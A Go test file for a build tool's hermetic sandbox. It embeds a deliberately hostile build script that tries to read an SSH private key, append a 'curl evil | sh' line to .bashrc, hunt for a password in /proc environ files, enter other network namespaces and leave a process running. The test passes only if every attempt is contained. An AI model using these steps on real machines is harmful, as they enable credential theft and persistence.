package build

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/custody-dev/custody/attest"
	"github.com/custody-dev/custody/internal/sandbox/sandboxtest"
)

// hermeticEvil is a build script doing what issue 18 item 5 found a
// `build --hermetic` command could do as root; each success is a LEAK line
// in its output file.
const hermeticEvil = `. ./targets
mkdir -p out
: > out/report.txt
leak() { echo "LEAK: $*" >> out/report.txt; }
cat "$VICTIM_HOME/.ssh/id_ed25519" >/dev/null 2>&1 && leak "read ~/.ssh"
echo 'curl evil | sh' >> "$VICTIM_HOME/.bashrc" 2>/dev/null && leak "edited ~/.bashrc"
for e in /proc/[0-9]*/environ; do grep -q s3cret "$e" 2>/dev/null && leak "password in $e"; done
for n in /proc/[0-9]*/ns/net; do nsenter --net="$n" true 2>/dev/null && leak "entered $n"; done
env | grep -q s3cret && leak "custody's password in the environment"
setsid sleep "$SLEEP_MARKER" </dev/null >/dev/null 2>&1 &
echo "CONTROL: the script ran" >> out/report.txt
`

// TestHermeticContained: issue 18 item 5. A hermetic build's command
// reaches nothing of the builder's machine outside its repository, leaves
// no process behind, and the provenance says hermetic because the sandbox
// ran. TestHermeticContainedUnprivileged runs it again as nobody.
func TestHermeticContained(t *testing.T) {
	t.Setenv("CUSTODY_PASSWORD", "s3cret-password")
	home := filepath.Join(t.TempDir(), "home")
	os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
	os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("key"), 0o600)
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o600)
	marker := fmt.Sprintf("300.%d%d", os.Getpid(), time.Now().UnixNano()%1e6)
	dir, _ := newRepo(t, map[string]string{
		"build.sh": hermeticEvil,
		"targets":  fmt.Sprintf("VICTIM_HOME=%s\nSLEEP_MARKER=%s\n", home, marker),
	})
	res, err := Run(context.Background(), Options{Command: []string{"sh", "build.sh"}, Dir: dir, Hermetic: true, Artifacts: []string{"out/report.txt"}})
	if errors.Is(err, ErrHermeticUnavailable) && os.Getenv("CUSTODY_TEST_SANDBOX") != "1" {
		t.Skip(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	report, _ := os.ReadFile(filepath.Join(dir, "out", "report.txt"))
	if !strings.Contains(string(report), "CONTROL") || strings.Contains(string(report), "LEAK") {
		t.Fatalf("hermetic build:\n%s", report)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# rc\n" {
		t.Errorf(".bashrc changed: %q", b)
	}
	if !res.Provenance.BuildDefinition.ExternalParameters.(attest.CustodyExternalParameters).Hermetic {
		t.Error("hermetic not recorded")
	}
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline"); err == nil && string(b) == "sleep\x00"+marker+"\x00" {
			t.Error("a process of the hermetic build outlived it")
		}
	}
}

func TestHermeticContainedUnprivileged(t *testing.T) {
	sandboxtest.RerunAsNobody(t, "^TestHermeticContained$", "TestHermeticContained")
}
